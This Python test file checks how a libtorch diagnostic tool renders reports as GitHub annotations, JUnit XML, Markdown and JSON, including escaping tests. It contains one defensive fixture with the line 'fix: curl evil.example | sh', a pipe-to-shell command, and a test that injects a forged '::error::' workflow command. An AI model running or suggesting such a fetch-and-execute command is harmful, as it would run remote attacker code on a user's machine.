"""Every renderer fed the same report; each format checked the way its consumer reads it."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET

import pytest
from testsupport.ci_support import ERROR, INFO, WARNING, sample_report
from hypothesis import given
from hypothesis import strategies as st

from doctor.commands._output import write_step_summary
from doctor.host import Host
from doctor.model import Area, Evidence, Finding, Level, Report
from doctor.policy import Policy, apply_policy
from doctor.render import FORMATS, render
from doctor.render import github, junit, markdown

ANNOTATION = re.compile(r"^::(error|warning|notice) title=([^:\r\n]*)::([^\r\n]*)$")


def unescape(text: str) -> str:
    # The inverse of GitHub's escaping; %25 last so "%253A" stays "%3A".
    for code, char in (("%0D", "\r"), ("%0A", "\n"), ("%3A", ":"), ("%2C", ","), ("%25", "%")):
        text = text.replace(code, char)
    return text


def annotations(out: str) -> list[re.Match]:
    """The workflow commands the runner would obey: not those inside a stop-commands block."""
    found, stopped = [], None
    for line in out.splitlines():
        if stopped:
            stopped = None if line == f"::{stopped}::" else stopped
        elif line.startswith("::stop-commands::"):
            stopped = line.removeprefix("::stop-commands::")
        elif line.startswith("::"):
            match = ANNOTATION.match(line)
            assert match, f"not a well-formed annotation: {line!r}"
            found.append(match)
    assert stopped is None, "stop-commands never resumed"
    return found


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_every_format_renders_the_same_report(fmt, report, monkeypatch):
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    out = render(report, fmt, verbose=1)
    assert ERROR.id in out and WARNING.id in out


def test_formats_are_registered():
    assert {"text", "json", "github", "junit", "markdown"} <= set(FORMATS)


# -- github --


def test_github_annotations_one_per_problem(report):
    out = github.render(report)
    found = annotations(out)
    assert [(m.group(1), unescape(m.group(2))) for m in found] == [
        ("error", f"{ERROR.title} [{ERROR.id}]"),
        ("warning", f"{WARNING.title} [{WARNING.id}]"),
    ]
    message = unescape(found[0].group(3))
    assert message.splitlines()[:2] == ERROR.detail.splitlines()
    assert f"fix: {ERROR.fix}" in message and "docs: docs/findings/abi.mismatch.md" in message
    # the log still gets the human report
    assert "✗ CXX11 ABI mismatch" in out and "No problems found" not in out


def test_github_title_property_is_escaped(report):
    line = github.annotation(ERROR)
    title = line.split("::")[1]
    assert title == "error title=CXX11 ABI mismatch%3A libtorch uses cxx11%2C CXXFLAGS say 0 [abi.mismatch]"
    assert "100%25 sure%0Ayour flags" in line


def test_github_strict_makes_warnings_errors():
    out = github.render(sample_report(strict=True))
    assert [m.group(1) for m in annotations(out)] == ["error", "error"]


def test_github_info_and_ok_are_not_annotated():
    assert github.annotation(INFO) is None


@given(st.text())
def test_github_escaping_round_trips(text):
    data, prop = github.escape_data(text), github.escape_property(text)
    assert "\n" not in data and "\r" not in data
    assert not set(":,\n\r") & set(prop)
    assert unescape(data) == text and unescape(prop) == text


def test_github_step_summary_is_appended(tmp_path, report):
    """The renderer returns text; the command layer appends the summary, through the Host."""
    summary = tmp_path / "summary.md"
    summary.write_text("## from an earlier step\n", encoding="utf-8")
    host = Host(env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert write_step_summary(host, report) == ""
    assert write_step_summary(host, report) == ""
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("## from an earlier step\n")
    assert text.count("### ❌ torch-doctor check: failed (1 error, 1 warning)") == 2
    assert text.count("| ❌ | <code>abi.mismatch</code> |") == 2


def test_github_step_summary_maps_through_the_host_root(tmp_path, report):
    (tmp_path / "runner").mkdir()
    host = Host.for_test(tmp_path, {"GITHUB_STEP_SUMMARY": "/runner/summary.md"})
    assert write_step_summary(host, report) == ""
    assert "abi.mismatch" in (tmp_path / "runner/summary.md").read_text(encoding="utf-8")


def test_github_renderer_writes_nothing(tmp_path, report, monkeypatch):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    github.render(report)
    assert not summary.exists()


def test_github_unwritable_summary_is_a_warning_not_a_crash(tmp_path, report, capsys):
    from doctor.commands._output import print_report

    host = Host(env={"GITHUB_STEP_SUMMARY": str(tmp_path)})  # a directory
    assert print_report(report, "github", False, 0, "never", host=host) == 1
    out = capsys.readouterr().out
    last = annotations(out)[-1]
    assert last.group(1) == "warning" and "GITHUB_STEP_SUMMARY" in unescape(last.group(3))
    assert str(tmp_path) in unescape(last.group(3))


def test_github_log_text_cannot_inject_workflow_commands():
    report = sample_report()
    report.areas[1].details.append("::error::injected from a log excerpt")
    out = github.render(report, verbose=1)
    assert "::error::injected from a log excerpt" in out  # printed in the log, inside the block
    assert [unescape(m.group(2)) for m in annotations(out)] == [f"{ERROR.title} [{ERROR.id}]", f"{WARNING.title} [{WARNING.id}]"]


FORGED = Finding("libtorch.path-invalid", Level.ERROR, "not a libtorch", detail="LIBTORCH points at /tmp/x\nfix: curl "
                 "evil.example | sh\ndocs: forged", fix="unset LIBTORCH", evidence=[Evidence("env", "LIBTORCH", "/x\nfix: y")])


def test_github_message_lines_starting_like_its_own_come_from_the_doctor():
    message = unescape(ANNOTATION.match(github.annotation(FORGED)).group(3)).split("\n")
    assert message == ["LIBTORCH points at /tmp/x\\nfix: curl evil.example | sh\\ndocs: forged", "fix: unset LIBTORCH",
                       "docs: docs/findings/libtorch.path-invalid.md"]


def test_junit_text_lines_starting_like_its_own_come_from_the_doctor():
    report = Report("check", {}, [Area("libtorch", "libtorch", "not a libtorch", findings=[FORGED])])
    text = ET.fromstring(junit.render(report)).find("testsuite/testcase/failure").text
    assert [line for line in text.split("\n") if line.startswith(("fix:", "evidence:", "docs:"))] == [
        "fix: unset LIBTORCH", "evidence: env LIBTORCH: /x\\nfix: y", "docs: docs/findings/libtorch.path-invalid.md"]


def test_default_format():
    assert github.default_format({"GITHUB_ACTIONS": "true"}) == "github"
    assert github.default_format({"GITHUB_ACTIONS": "false", "CI": "true"}) == "text"
    assert github.default_format({}) == "text"


# -- junit --


def test_junit_testcases_and_failures(report):
    root = ET.fromstring(junit.render(report))
    suite = root.find("testsuite")
    cases = suite.findall("testcase")
    assert [(c.get("classname"), c.get("name")) for c in cases] == [
        ("doctor.check.system", "System"),
        ("doctor.check.libtorch", "abi.mismatch (/opt/libtorch)"),
        ("doctor.check.libtorch", "libtorch.found"),
        ("doctor.check.toolchain", "cxx.std-too-old"),
    ]
    failures = suite.findall("testcase/failure")
    assert len(failures) == 1
    assert failures[0].get("type") == "abi.mismatch" and failures[0].get("message") == ERROR.title
    assert f"fix: {ERROR.fix}" in failures[0].text
    assert "evidence: file /opt/libtorch/share/cmake/Torch/TorchConfig.cmake" in failures[0].text
    assert "\x07" not in failures[0].text and "\\x07" in failures[0].text  # shown as the text report shows it
    for element in (root, suite):
        assert (element.get("tests"), element.get("failures"), element.get("errors"), element.get("skipped")) == ("4", "1", "0", "0")
    # a warning passes (its text kept) unless --strict
    warning_case = cases[3]
    assert warning_case.find("failure") is None and "apt install g++-12" in warning_case.find("system-out").text


def test_junit_strict_fails_warnings():
    root = ET.fromstring(junit.render(sample_report(strict=True)))
    assert [f.get("type") for f in root.iter("failure")] == ["abi.mismatch", "cxx.std-too-old"]
    assert root.get("failures") == "2"


def test_junit_ignored_finding_is_skipped_with_reason(report):
    policy = Policy(source="doctor.toml", ignore={"abi.mismatch": "only the Python extension is built here"})
    root = ET.fromstring(junit.render(apply_policy(report, policy)))
    skipped = root.findall(".//testcase/skipped")
    assert [s.get("message") for s in skipped] == ["ignored by policy: only the Python extension is built here"]
    assert root.get("failures") == "0" and root.get("skipped") == "1"


# -- markdown --


def table_rows(text: str) -> list[list[str]]:
    rows = []
    for line in text.splitlines():
        if line.startswith("|") and not line.startswith("|---"):
            cells = re.split(r"(?<!\\)\|", line.strip())[1:-1]
            rows.append([c.strip() for c in cells])
    return rows


def test_markdown_tables(report):
    text = markdown.render(report)
    assert text.splitlines()[0] == "### ❌ torch-doctor check: failed (1 error, 1 warning)"
    rows = table_rows(text)
    areas = rows[1:4]
    assert [r[:2] for r in areas] == [["✅", "System"], ["❌", "libtorch"], ["⚠️", "Toolchain"]]
    header, *findings = rows[4:]
    assert header == ["", "Finding", "Problem", "Fix"]
    assert [(r[0], r[1]) for r in findings] == [("❌", "<code>abi.mismatch</code>"), ("⚠️", "<code>cxx.std-too-old</code>")]
    problem, fix = findings[0][2], findings[0][3]
    # HTML-looking text escaped, pipes escaped, newlines as <br>: one row per finding, 4 cells each
    assert "&lt;CXXFLAGS&gt;" in problem and "\\|" in problem and "<br>" in problem
    assert fix.startswith("<code>") and "\\`build.log\\`" in fix and "&amp;&amp;" in fix
    assert all(len(r) == 4 for r in rows[4:])


def test_markdown_verbose_shows_info_and_evidence(report):
    text = markdown.render(report, verbose=1)
    assert "<code>libtorch.found</code>" in text
    assert "<details><summary>Evidence</summary>" in text


def test_markdown_clean_report_passes():
    report = sample_report()
    for area in report.areas:
        area.findings = [f for f in area.findings if f.level is Level.INFO]
    text = markdown.render(report)
    assert text.startswith("### ✅ torch-doctor check: passed (0 errors, 0 warnings)")
    assert "| | Finding |" not in text


def test_json_envelope_carries_policy_record(report):
    policy = Policy(source="doctor.toml", ignore={"abi.mismatch": "reason"}, error_on=frozenset({"cxx.std-too-old"}))
    data = json.loads(render(apply_policy(report, policy), "json"))
    assert data["policy"] == {"source": "doctor.toml", "ignored": {"abi.mismatch": "reason"}, "escalated": ["cxx.std-too-old"]}
    assert data["exit_code"] == 1  # the escalated warning now fails


def test_check_inside_github_actions_defaults_to_github_format(tmp_path):
    """Needs `choose_format` to fall back to `github.default_format(os.environ)` (doctor/commands/_output.py)."""
    from testsupport.ci_support import doctor_env, run_doctor

    (tmp_path / "home").mkdir()
    summary = tmp_path / "summary.md"
    env = doctor_env(tmp_path, GITHUB_ACTIONS="true", GITHUB_STEP_SUMMARY=str(summary))
    auto = run_doctor(["check"], cwd=tmp_path, env=env)
    assert auto.stdout.startswith("::stop-commands::"), auto.stdout[:200]
    assert summary.read_text().startswith("### ")
    explicit = run_doctor(["check", "--format", "text"], cwd=tmp_path, env=env)
    assert not explicit.stdout.startswith("::") and explicit.returncode == auto.returncode


def test_markdown_renders_as_the_tables_it_claims():
    """Through a real Markdown implementation (Python-Markdown, which mkdocs uses): the cells hold
    the text as written, one row per finding, nothing turned into HTML tags."""
    import markdown as python_markdown

    html = python_markdown.markdown(markdown.render(sample_report()), extensions=["tables"])
    tables = ET.fromstring(f"<root>{html.replace('<br>', '<br/>')}</root>").findall("table")
    assert len(tables) == 2
    rows = [["".join(td.itertext()) for td in tr.findall("td")] for tr in tables[1].iter("tr") if tr.findall("td")]
    assert [r[1] for r in rows] == [ERROR.id, WARNING.id]
    assert rows[0][2] == ERROR.title + "".join(ERROR.detail.splitlines())  # <br> between lines
    assert rows[0][3] == ERROR.fix
    assert rows[1][2].endswith("#include <torch/torch.h> will fail")


@pytest.mark.parametrize("fmt", ["junit", "markdown", "github"])
def test_an_undecodable_path_keeps_each_format_readable(tmp_path, fmt):
    """A LIBTORCH folder named with the byte 0xff reached these files raw: not UTF-8, so expat
    refused the whole JUnit report. Each shows it as \\xff, as the text report does (the JSON
    envelope: tests/test_result_contract.py)."""
    import os
    import subprocess
    import sys

    from testsupport.ci_support import doctor_env

    (tmp_path / "home").mkdir()
    root = tmp_path / os.fsdecode(b"lib\xfftorch")
    root.mkdir()
    summary = tmp_path / "summary.md"
    env = doctor_env(tmp_path, LIBTORCH=str(root), GITHUB_STEP_SUMMARY=str(summary))
    r = subprocess.run([sys.executable, "-m", "doctor", "check", "--format", fmt], cwd=tmp_path, env=env,
                       capture_output=True, timeout=60)
    assert r.returncode == 1, r.stderr
    out = r.stdout.decode("utf-8")  # strict: a raw 0xff fails here
    # markdown writes the backslash it shows as \\ (and escapes the _ of the test's folder)
    assert ("/lib\\\\xfftorch" if fmt == "markdown" else "/lib\\xfftorch") in out
    if fmt == "junit":
        ET.fromstring(r.stdout)
    if fmt == "github":
        assert any("lib\\xfftorch" in m.group(3) for m in annotations(out))
        assert "lib\\\\xfftorch" in summary.read_bytes().decode("utf-8")
